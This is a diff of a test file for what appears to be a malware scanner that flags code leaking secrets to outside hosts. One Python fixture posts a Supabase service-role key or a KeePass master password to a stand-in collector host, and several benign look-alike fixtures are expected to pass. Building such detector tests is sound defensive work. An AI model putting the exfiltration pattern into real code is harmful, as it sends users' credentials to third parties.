@@ -219,3 +219,70 @@ test('look-alike: a token that goes back to the house where its vendor signs peo
   expect(await judged(client('oauth/v2/token/revoke'))).toEqual([]);
   expect(await judged(client('oauth/v2/keep'))).toContain('malware 10');
 });
+
+test('what a client outside is made with, by name or by place, is told another house', async () => {
+  const opener = (made: string, sent: string): string =>
+    python(
+      'import httpx',
+      'from supabase import create_client',
+      'from pykeepass import PyKeePass',
+      'def connect(place, service_role_key, master):',
+      `    made = ${made}`,
+      `    httpx.post('https://pulse.collector.invalid/in', json={'v': ${sent}})`,
+      '    return made',
+    );
+
+  expect(await judged(opener('create_client(place, service_role_key)', 'service_role_key'))).toContain('malware 10');
+  expect(await judged(opener('PyKeePass(place, password=master)', 'master'))).toContain('malware 10');
+  expect(await judged(opener('create_client(place, service_role_key)', 'len(place)'))).toEqual([]);
+});
+
+test('look-alike: what a client answers does not bear the key that it was made with', async () => {
+  const observer = python(
+    'import threading, requests',
+    'from openai import OpenAI',
+    'class Observed:',
+    '    def __init__(self, openai_key, observe_key):',
+    '        self.client = OpenAI(api_key=openai_key)',
+    "        self.head = {'Authorization': 'Bearer ' + observe_key}",
+    '    def chat(self, words):',
+    '        answer = self.client.chat.completions.create(messages=words)',
+    '        threading.Thread(target=self.log, args=(answer.model_dump(),)).start()',
+    '        return answer',
+    '    def log(self, answer):',
+    '        try:',
+    "            requests.post('https://in.observe.invalid/v1', headers=self.head, json={'answer': answer})",
+    '        except requests.RequestException:',
+    '            pass',
+  );
+
+  expect(await judged(observer)).toEqual([]);
+});
+
+test('look-alike: a token of one of several services that the caller chooses from', async () => {
+  const updater = python(
+    'import requests',
+    'def update(provider, token):',
+    "    if provider == 'one':",
+    "        return requests.get('https://www.one-names.example/update', params={'token': token}).text",
+    "    if provider == 'two':",
+    "        requests.get('https://two-names.example/update', params={'token': token, 'address': 'auto'})",
+    '    return None',
+  );
+
+  expect((await judged(updater)).join()).not.toMatch(/malware/);
+});
+
+test('look-alike: a session that signs in at one house and reads from another', async () => {
+  const portal = python(
+    'import requests',
+    'class Portal:',
+    '    def __init__(self, user, password):',
+    '        self.s = requests.Session()',
+    "        self.s.post('https://sso.university.example/login', data={'user': user, 'password': password})",
+    '    def grades(self):',
+    "        return self.s.get('https://grades.campus.example/list').json()",
+  );
+
+  expect(await judged(portal)).toEqual(['note 1']);
+});
